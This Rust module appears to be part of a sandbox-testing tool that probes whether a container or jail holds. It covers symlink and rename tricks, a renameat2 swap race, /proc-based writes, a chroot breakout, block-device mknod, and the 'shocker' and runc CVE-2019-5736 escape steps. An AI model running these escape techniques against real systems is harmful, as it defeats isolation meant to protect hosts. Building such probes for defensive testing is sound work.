//! Filesystem attempts: writes through every kind of path trick, renames and links across the
//! boundary, replacing protected directories, swap races, and the mount-level ways out.

use std::collections::BTreeMap;
use std::ffi::{c_int, c_long};
use std::fs::{self, OpenOptions};
use std::io::{self, Write};
use std::os::unix::fs::{DirBuilderExt, OpenOptionsExt, PermissionsExt, symlink};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use crate::Args;
use crate::report::Report;
use crate::sys;

/// Create (or truncate) `path` and write a marker line, following symlinks as a shell's `>`
/// does.
fn write_file(path: &str) -> io::Result<()> {
    OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o644)
        .open(path)?
        .write_all(b"escape-probe\n")
}

/// Create `path`, which must not exist yet (symlinks in the directory part are followed).
fn write_new(path: &str) -> io::Result<()> {
    OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o644)
        .open(path)?
        .write_all(b"escape-probe\n")
}

pub fn create(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "path")?;
    Ok(Report::from_result(
        write_file(path),
        &format!("create {path}"),
    ))
}

pub fn overwrite(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "path")?;
    let result = OpenOptions::new()
        .write(true)
        .truncate(true)
        .open(path)
        .and_then(|mut f| f.write_all(b"escape-probe\n"));
    Ok(Report::from_result(result, &format!("overwrite {path}")))
}

pub fn truncate(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "path")?;
    let result = sys::c_string(path).and_then(|c| {
        // SAFETY: `c` is a valid NUL-terminated path that outlives the call.
        sys::check(unsafe { sys::truncate(c.as_ptr(), 0) }).map(drop)
    });
    Ok(Report::from_result(
        result,
        &format!("truncate {path} to 0 bytes"),
    ))
}

pub fn read(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "path")?;
    // The contents are never printed: the point of the attempt is a secret.
    Ok(match fs::read(path) {
        Ok(bytes) => Report::done(format!("read {} bytes of {path}", bytes.len())),
        Err(e) => Report::failed(&e, format!("read {path}: {e}")),
    })
}

pub fn mkdir(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "path")?;
    Ok(Report::from_result(
        fs::create_dir(path),
        &format!("mkdir {path}"),
    ))
}

pub fn mkdir_p(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "path")?;
    Ok(Report::from_result(
        fs::create_dir_all(path),
        &format!("mkdir -p {path}"),
    ))
}

pub fn unlink(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "path")?;
    Ok(Report::from_result(
        fs::remove_file(path),
        &format!("unlink {path}"),
    ))
}

pub fn link(args: &Args) -> Result<Report, String> {
    let existing = args.str(0, "existing file")?;
    let new = args.str(1, "new link")?;
    Ok(Report::from_result(
        fs::hard_link(existing, new),
        &format!("link {existing} -> {new}"),
    ))
}

pub fn rename(args: &Args) -> Result<Report, String> {
    let from = args.str(0, "from")?;
    let to = args.str(1, "to")?;
    Ok(Report::from_result(
        fs::rename(from, to),
        &format!("rename {from} -> {to}"),
    ))
}

fn exchange_paths(a: &str, b: &str) -> io::Result<()> {
    let (a, b) = (sys::c_string(a)?, sys::c_string(b)?);
    // SAFETY: both paths are valid NUL-terminated strings that outlive the call.
    let ret = unsafe {
        sys::syscall(
            sys::nr::RENAMEAT2,
            c_long::from(sys::AT_FDCWD),
            a.as_ptr(),
            c_long::from(sys::AT_FDCWD),
            b.as_ptr(),
            c_long::from(sys::RENAME_EXCHANGE),
        )
    };
    sys::check_long(ret).map(drop)
}

pub fn exchange(args: &Args) -> Result<Report, String> {
    let a = args.str(0, "first path")?;
    let b = args.str(1, "second path")?;
    Ok(Report::from_result(
        exchange_paths(a, b),
        &format!("renameat2({a}, {b}, RENAME_EXCHANGE)"),
    ))
}

pub fn chmod(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "path")?;
    let mode = u32::from_str_radix(args.str(1, "octal mode")?, 8)
        .map_err(|_| "the mode is not octal".to_owned())?;
    Ok(Report::from_result(
        fs::set_permissions(path, fs::Permissions::from_mode(mode)),
        &format!("chmod {mode:o} {path}"),
    ))
}

/// The permission bits (with setuid, setgid and sticky) of `path`.
fn mode_of(path: &str) -> io::Result<u32> {
    Ok(fs::symlink_metadata(path)?.permissions().mode() & 0o7777)
}

/// `Ok` when `route` worked and left `path` with `want`; an error naming the difference
/// otherwise (`EPERM`-free: a changed mode is no errno, it is a wrong result).
fn check_mode(report: &mut Report, route: &str, path: &str, want: u32, result: io::Result<()>) {
    match result.and_then(|()| mode_of(path)) {
        Ok(got) if got == want => {}
        Ok(got) => {
            report.ok = false;
            report
                .detail
                .push_str(&format!("{route}: mode {got:o}, not {want:o}; "));
        }
        Err(e) => {
            report.ok = false;
            report.note(&e);
            report
                .errno
                .get_or_insert_with(|| crate::sys::error_name(&e));
            report.detail.push_str(&format!("{route}: {e}; "));
        }
    }
}

/// Set `PATH`'s mode to `OCTAL` every way there is: `chmod(2)` by path, `fchmod(2)` on a
/// descriptor, and `fchmodat2(2)`. `ok` when every way worked and the file has that mode.
pub fn chmod_every_way(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "path")?;
    let mode = u32::from_str_radix(args.str(1, "octal mode")?, 8)
        .map_err(|_| "the mode is not octal".to_owned())?;
    let mut report = Report::done(format!("chmod {mode:o} {path} by path, fd, fchmodat2: "));
    let reset = |report: &mut Report| {
        // Back to a plain mode between the ways, so each one has something to change.
        if let Err(e) = fs::set_permissions(path, fs::Permissions::from_mode(0o644)) {
            report.detail.push_str(&format!("reset: {e}; "));
        }
    };
    let by_path = fs::set_permissions(path, fs::Permissions::from_mode(mode));
    check_mode(&mut report, "chmod", path, mode, by_path);
    reset(&mut report);
    let by_fd =
        fs::File::open(path).and_then(|f| f.set_permissions(fs::Permissions::from_mode(mode)));
    check_mode(&mut report, "fchmod", path, mode, by_fd);
    reset(&mut report);
    let at2 = sys::c_string(path).and_then(|c| {
        // SAFETY: `c` is a valid NUL-terminated path alive for the call.
        let ret = unsafe {
            sys::syscall(
                sys::NR_FCHMODAT2,
                c_long::from(sys::AT_FDCWD),
                c.as_ptr(),
                c_long::from(mode),
                0_i64,
            )
        };
        sys::check_long(ret).map(drop)
    });
    check_mode(&mut report, "fchmodat2", path, mode, at2);
    Ok(report)
}

/// Create files in `DIR` with mode `OCTAL` every way there is: `open(O_CREAT)`, `mknodat`
/// of a regular file, `openat2` (falling back to `openat` on `ENOSYS`, as programs written for
/// kernels before 5.6 do), and `mkdir` (whose mode the kernel strips of setuid/setgid, so a
/// directory is judged by the rest). `ok` when every way created its file with that mode.
pub fn create_with_mode(args: &Args) -> Result<Report, String> {
    let dir = args.str(0, "directory")?;
    let mode = u32::from_str_radix(args.str(1, "octal mode")?, 8)
        .map_err(|_| "the mode is not octal".to_owned())?;
    // SAFETY: umask only sets the process's file mode creation mask.
    unsafe { sys::umask(0) };
    let mut report = Report::done(format!("create files with mode {mode:o} in {dir}: "));
    let path = |name: &str| format!("{dir}/{name}");

    let opened = path("by-open");
    let result = sys::c_string(&opened).and_then(|c| {
        // SAFETY: `c` is a valid NUL-terminated path alive for the call.
        let fd = sys::check(unsafe {
            sys::open(
                c.as_ptr(),
                sys::O_CREAT | sys::O_EXCL | sys::O_WRONLY | sys::O_CLOEXEC,
                mode,
            )
        })?;
        sys::close_fd(fd);
        Ok(())
    });
    check_mode(&mut report, "open(O_CREAT)", &opened, mode, result);

    let node = path("by-mknod");
    let result = sys::c_string(&node).and_then(|c| {
        // SAFETY: `c` is a valid NUL-terminated path alive for the call.
        let ret = unsafe {
            sys::syscall(
                sys::nr::MKNODAT,
                c_long::from(sys::AT_FDCWD),
                c.as_ptr(),
                c_long::from(sys::S_IFREG | mode),
                0_i64,
            )
        };
        sys::check_long(ret).map(drop)
    });
    check_mode(&mut report, "mknodat(S_IFREG)", &node, mode, result);

    let via_openat2 = path("by-openat2");
    let result = sys::c_string(&via_openat2).and_then(|c| {
        let how = sys::OpenHow {
            flags: u64::from(
                (sys::O_CREAT | sys::O_EXCL | sys::O_WRONLY | sys::O_CLOEXEC).unsigned_abs(),
            ),
            mode: u64::from(mode),
            resolve: 0,
        };
        // SAFETY: `c` and `how` are valid and outlive the call; the size is `how`'s.
        let ret = unsafe {
            sys::syscall(
                sys::NR_OPENAT2,
                c_long::from(sys::AT_FDCWD),
                c.as_ptr(),
                &raw const how,
                std::mem::size_of::<sys::OpenHow>(),
            )
        };
        match sys::check_long(ret) {
            Ok(fd) => {
                sys::close_fd(c_int::try_from(fd).unwrap_or(-1));
                Ok(())
            }
            Err(e) if e.raw_os_error() == Some(38) => {
                // ENOSYS: what a program does on a kernel without openat2.
                // SAFETY: as for open above.
                let fd = sys::check(unsafe {
                    sys::open(
                        c.as_ptr(),
                        sys::O_CREAT | sys::O_EXCL | sys::O_WRONLY | sys::O_CLOEXEC,
                        mode,
                    )
                })?;
                sys::close_fd(fd);
                Ok(())
            }
            Err(e) => Err(e),
        }
    });
    check_mode(&mut report, "openat2 or openat", &via_openat2, mode, result);

    let made = path("by-mkdir");
    let result = fs::DirBuilder::new().mode(mode).create(&made);
    check_mode(&mut report, "mkdir", &made, mode & 0o1777, result);
    Ok(report)
}

/// Write each `PATH=TEXT` (creating missing parent directories): planting files whose
/// contents matter, such as git metadata. `ok` when every write worked.
pub fn write_files(args: &Args) -> Result<Report, String> {
    let mut report = Report::done("write ");
    for i in 0.. {
        let Ok(item) = args.str(i, "PATH=TEXT") else {
            break;
        };
        let (path, text) = item
            .split_once('=')
            .ok_or_else(|| format!("{item}: not PATH=TEXT"))?;
        let result = std::path::Path::new(path)
            .parent()
            .map_or(Ok(()), fs::create_dir_all)
            .and_then(|()| fs::write(path, text.replace("\\n", "\n")));
        match result {
            Ok(()) => report.detail.push_str(&format!("{path}; ")),
            Err(e) => {
                report.ok = false;
                report.note(&e);
                report
                    .errno
                    .get_or_insert_with(|| crate::sys::error_name(&e));
                report.detail.push_str(&format!("{path}: {e}; "));
            }
        }
    }
    Ok(report)
}

pub fn symlink_write(args: &Args) -> Result<Report, String> {
    let target = args.str(0, "symlink target")?;
    let link = args.str(1, "symlink path")?;
    if let Err(e) = symlink(target, link) {
        return Ok(Report::failed(
            &e,
            format!("cannot even plant {link} -> {target}: {e}"),
        ));
    }
    Ok(Report::from_result(
        write_file(link),
        &format!("write through the planted {link} -> {target}"),
    ))
}

pub fn replace_with_symlink(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "path to replace")?;
    let target = args.str(1, "symlink target")?;
    let moved = format!("{path}.moved");
    let mut steps = Vec::new();
    let mut first_error: Option<io::Error> = None;
    let mut errnos = Vec::new();
    match fs::rename(path, &moved) {
        Ok(()) => steps.push(format!("moved {path} away")),
        Err(rename_error) => {
            steps.push(format!("rename: {rename_error}"));
            errnos.push(sys::error_name(&rename_error));
            let is_dir = fs::symlink_metadata(path).is_ok_and(|m| m.is_dir());
            let removed = if is_dir {
                fs::remove_dir_all(path)
            } else {
                fs::remove_file(path)
            };
            match removed {
                Ok(()) => steps.push(format!("removed {path}")),
                Err(e) => {
                    steps.push(format!("remove: {e}"));
                    errnos.push(sys::error_name(&e));
                    first_error = Some(rename_error);
                }
            }
        }
    }
    if first_error.is_none()
        && let Err(e) = symlink(target, path)
    {
        steps.push(format!("symlink: {e}"));
        errnos.push(sys::error_name(&e));
        first_error = Some(e);
    }
    let detail = steps.join("; ");
    let replaced = fs::symlink_metadata(path).is_ok_and(|m| m.file_type().is_symlink());
    let mut report = match (&first_error, replaced) {
        (_, true) => Report::done(format!("{path} is now a symlink to {target}: {detail}")),
        (Some(e), false) => Report::failed(e, detail),
        (None, false) => Report::held(detail),
    };
    errnos.dedup();
    report.errnos = errnos;
    Ok(report)
}

pub fn proc_pid_write(args: &Args) -> Result<Report, String> {
    let target = args.str(0, "absolute path to create")?;
    let relative = target.trim_start_matches('/');
    let own = std::process::id().to_string();
    let entries = match fs::read_dir("/proc") {
        Ok(entries) => entries,
        Err(e) => return Ok(Report::failed(&e, format!("cannot list /proc: {e}"))),
    };
    let pids: Vec<String> = entries
        .filter_map(|e| e.ok()?.file_name().into_string().ok())
        .filter(|name| name.bytes().all(|b| b.is_ascii_digit()) && *name != own)
        .collect();
    if pids.is_empty() {
        return Ok(Report::held("no other process is visible in /proc"));
    }
    let climb = "../".repeat(32);
    let mut report = Report::held("");
    let mut tried = Vec::new();
    for pid in &pids {
        for path in [
            format!("/proc/{pid}/root/{relative}"),
            format!("/proc/{pid}/cwd/{climb}{relative}"),
        ] {
            match write_file(&path) {
                Ok(()) => {
                    return Ok(Report::done(format!("created {target} through {path}")));
                }
                Err(e) => {
                    if report.errno.is_none() {
                        report.errno = Some(sys::error_name(&e));
                    }
                    report.note(&e);
                    tried.push(format!("{path}: {e}"));
                }
            }
        }
    }
    report.detail = tried.join("; ");
    let attempts = u64::try_from(tried.len()).unwrap_or(u64::MAX);
    Ok(report.with_count(attempts))
}

/// Tallies of a loop of writes.
#[derive(Debug, Default)]
struct Tally {
    written: u64,
    failed: u64,
    by_errno: BTreeMap<String, u64>,
}

impl Tally {
    fn record(&mut self, result: io::Result<()>) {
        match result {
            Ok(()) => self.written += 1,
            Err(e) => {
                self.failed += 1;
                *self.by_errno.entry(sys::error_name(&e)).or_default() += 1;
            }
        }
    }

    /// A failed report naming the most common errno first.
    fn failure(&self, detail: String) -> Report {
        let mut by_count: Vec<(&String, &u64)> = self.by_errno.iter().collect();
        by_count.sort_by(|a, b| b.1.cmp(a.1));
        Report {
            ok: false,
            errno: by_count.first().map(|(name, _)| (*name).clone()),
            errnos: by_count.iter().map(|(name, _)| (*name).clone()).collect(),
            detail,
            count: Some(self.written),
        }
    }
}

fn count_entries(dir: &str) -> u64 {
    fs::read_dir(dir).map_or(0, |entries| u64::try_from(entries.count()).unwrap_or(0))
}

pub fn swap_race(args: &Args) -> Result<Report, String> {
    let target = args.str(0, "symlink target")?;
    let iterations: u64 = args.number(1, "iterations")?;
    let base = format!("swap-race-{}", std::process::id());
    let (a, b) = (format!("{base}/a"), format!("{base}/b"));
    fs::create_dir_all(&a).map_err(|e| format!("cannot create {a}: {e}"))?;
    symlink(target, &b).map_err(|e| format!("cannot create {b}: {e}"))?;
    let stop = Arc::new(AtomicBool::new(false));
    let swaps = Arc::new(AtomicU64::new(0));
    let swapper = {
        let (stop, swaps, a, b) = (Arc::clone(&stop), Arc::clone(&swaps), a.clone(), b.clone());
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                if exchange_paths(&a, &b).is_ok() {
                    swaps.fetch_add(1, Ordering::Relaxed);
                }
            }
        })
    };
    let mut tally = Tally::default();
    let started = Instant::now();
    for i in 0..iterations {
        tally.record(write_new(&format!("{a}/f{i}")));
        if started.elapsed() > Duration::from_secs(10) {
            break;
        }
    }
    stop.store(true, Ordering::Relaxed);
    let _ = swapper.join();
    let swaps = swaps.load(Ordering::Relaxed);
    // Whichever name holds the real directory now.
    let real = if fs::symlink_metadata(&a).is_ok_and(|m| m.is_dir()) {
        a
    } else {
        b
    };
    let in_real = count_entries(&real);
    let through_link = tally.written.saturating_sub(in_real);
    let summary = format!(
        "{} writes succeeded, {in_real} are in the real directory, {through_link} went through the symlink to {target}, {} failed {:?}, {swaps} swaps",
        tally.written, tally.failed, tally.by_errno
    );
    Ok(if through_link > 0 {
        Report::done(summary).with_count(through_link)
    } else if tally.failed == 0 {
        Report::held(format!(
            "the symlink was never in place for a write, so nothing was tested: {summary}"
        ))
    } else {
        tally.failure(summary)
    })
}

pub fn write_loop(args: &Args) -> Result<Report, String> {
    let dir = args.str(0, "directory")?;
    let iterations: u64 = args.number(1, "iterations")?;
    let pid = std::process::id();
    let mut tally = Tally::default();
    let started = Instant::now();
    for i in 0..iterations {
        tally.record(write_new(&format!("{dir}/f-{pid}-{i}")));
        if started.elapsed() > Duration::from_secs(10) {
            break;
        }
    }
    let summary = format!(
        "{} writes into {dir} succeeded, {} failed {:?}",
        tally.written, tally.failed, tally.by_errno
    );
    Ok(if tally.failed == 0 {
        Report::done(format!(
            "{summary}: every write went through (a symlink swapped in for {dir} was never in place, or led somewhere writable)"
        ))
        .with_count(tally.written)
    } else {
        tally.failure(summary)
    })
}

pub fn mount_tmpfs(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "mount point")?;
    let result = sys::c_string(path).and_then(|target| {
        // SAFETY: every pointer is a valid NUL-terminated string or null, alive for the call.
        let ret = unsafe {
            sys::mount(
                c"none".as_ptr(),
                target.as_ptr(),
                c"tmpfs".as_ptr(),
                0,
                std::ptr::null(),
            )
        };
        sys::check(ret).map(drop)
    });
    Ok(Report::from_result(
        result,
        &format!("mount a tmpfs over {path}"),
    ))
}

pub fn umount(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "mount point")?;
    let result = sys::c_string(path).and_then(|target| {
        // SAFETY: `target` is a valid NUL-terminated path alive for the call.
        sys::check(unsafe { sys::umount2(target.as_ptr(), sys::MNT_DETACH) }).map(drop)
    });
    Ok(Report::from_result(
        result,
        &format!("umount2({path}, MNT_DETACH)"),
    ))
}

pub fn chroot_breakout(args: &Args) -> Result<Report, String> {
    let target = args.str(0, "absolute path to create")?;
    let jail = "chroot-jail";
    let _ = fs::create_dir(jail);
    if let Err(e) = std::os::unix::fs::chroot(jail) {
        return Ok(Report::failed(&e, format!("chroot({jail}): {e}")));
    }
    for _ in 0..64 {
        let _ = std::env::set_current_dir("..");
    }
    if let Err(e) = std::os::unix::fs::chroot(".") {
        return Ok(Report::failed(&e, format!("chroot(.) after climbing: {e}")));
    }
    Ok(Report::from_result(
        write_file(target),
        &format!("create {target} from the climbed root"),
    ))
}

pub fn mknod_block(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "device node path")?;
    // makedev(8, 0): the first SCSI disk.
    const SDA: c_long = 8 << 8;
    let result = sys::c_string(path).and_then(|c| {
        // SAFETY: `c` is a valid NUL-terminated path alive for the call.
        let ret = unsafe {
            sys::syscall(
                sys::nr::MKNODAT,
                c_long::from(sys::AT_FDCWD),
                c.as_ptr(),
                c_long::from(sys::S_IFBLK | 0o600),
                SDA,
            )
        };
        sys::check_long(ret).map(drop)
    });
    if result.is_ok() {
        let _ = fs::remove_file(path);
    }
    Ok(Report::from_result(
        result,
        &format!("mknod {path} b 8 0 (the host's first disk)"),
    ))
}

/// `struct file_handle` with room for any handle.
#[repr(C)]
struct FileHandle {
    handle_bytes: u32,
    handle_type: c_int,
    handle: [u8; 128],
}

pub fn open_by_handle(_args: &Args) -> Result<Report, String> {
    let mut handle = FileHandle {
        handle_bytes: 128,
        handle_type: 0,
        handle: [0; 128],
    };
    let mut mount_id: c_int = 0;
    // SAFETY: the path is a NUL-terminated literal; `handle` and `mount_id` are valid for writes
    // of the sizes the kernel expects (handle_bytes says how much room there is).
    let ret = unsafe {
        sys::syscall(
            sys::nr::NAME_TO_HANDLE_AT,
            c_long::from(sys::AT_FDCWD),
            c"/".as_ptr(),
            &raw mut handle,
            &raw mut mount_id,
            0 as c_long,
        )
    };
    Ok(match sys::check_long(ret) {
        Ok(_) => Report::done(
            "name_to_handle_at(/) returned a handle: the first half of the 'shocker' escape works",
        ),
        Err(e) => Report::failed(&e, format!("name_to_handle_at(/): {e}")),
    })
}

pub fn proc_exe_write(_args: &Args) -> Result<Report, String> {
    // The runc CVE-2019-5736 shape: a runtime process in the sandbox's PID namespace whose
    // /proc/<pid>/exe is a host binary (the container's init runs the helper's own code).
    let own = std::process::id().to_string();
    let entries = match fs::read_dir("/proc") {
        Ok(entries) => entries,
        Err(e) => return Ok(Report::failed(&e, format!("cannot list /proc: {e}"))),
    };
    let pids: Vec<String> = entries
        .filter_map(|e| e.ok()?.file_name().into_string().ok())
        .filter(|name| name.bytes().all(|b| b.is_ascii_digit()) && *name != own)
        .collect();
    if pids.is_empty() {
        return Ok(Report::held("no other process is visible in /proc"));
    }
    let mut report = Report::held("");
    let mut tried = Vec::new();
    for pid in &pids {
        let path = format!("/proc/{pid}/exe");
        // Opening for writing is the escape; nothing is written.
        match sys::open_raw(&path, sys::O_WRONLY) {
            Ok(fd) => {
                sys::close_fd(fd);
                return Ok(Report::done(format!(
                    "opened {path} (the binary of pid {pid}) for writing (nothing written)"
                )));
            }
            Err(e) => {
                if report.errno.is_none() {
                    report.errno = Some(sys::error_name(&e));
                }
                report.note(&e);
                tried.push(format!("{path}: {}", sys::error_name(&e)));
            }
        }
    }
    report.detail = tried.join("; ");
    Ok(report)
}

pub fn open_write(args: &Args) -> Result<Report, String> {
    let path = args.str(0, "path")?;
    // Opening for writing is the escape; nothing is written.
    Ok(match sys::open_raw(path, sys::O_WRONLY | sys::O_NOCTTY) {
        Ok(fd) => {
            sys::close_fd(fd);
            Report::done(format!("opened {path} for writing (nothing written)"))
        }
        Err(e) => Report::failed(&e, format!("open {path} for writing: {e}")),
    })
}
